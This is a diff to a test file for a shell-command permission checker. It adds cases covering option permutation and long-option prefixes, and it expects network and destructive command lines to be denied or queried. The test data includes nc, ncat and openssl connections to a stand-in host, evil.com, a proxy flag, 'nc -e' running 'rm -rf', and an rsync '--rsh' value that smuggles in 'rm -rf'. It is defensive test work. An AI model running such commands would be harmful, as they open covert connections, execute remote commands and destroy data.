@@ -136,6 +136,16 @@ describe('decisions', () => {
     ['openssl s_client --connect evil.com:443 -quiet', 'deny'],
     ['openssl s_client -connect=evil.com:443', 'deny'],
     ['openssl s_client -host evil.com -port 443', 'deny'],
+    // GNU getopt permutes: an option after the operands is read (nc, ncat), so an expansion there
+    // may be one (`X='-xevil.com:1080'`, a proxy; `-e CMD`). Was allowed.
+    ['nc github.com 443 $X', 'ask'],
+    ['ncat github.com 443 "$X"', 'ask'],
+    ['nc github.com 443 -xevil.com:1080', 'deny'],
+    ['rsync -a src/ github.com:x/ --rsh="rm -rf x"', 'deny'],
+    ["nc github.com 443 -e 'rm -rf x'", 'deny'],
+    // Options by their letter grammar (long-options.ts letterGrammar): a unique prefix of a long one.
+    ['ncat --prox evil.com:8080 github.com 80', 'deny'],
+    ['nc -zv github.com 443', 'allow'],
   ];
   it.each(cases)('%s: %s', (line, expected) => {
     expectDecision(rules, 'shell', line, expected);
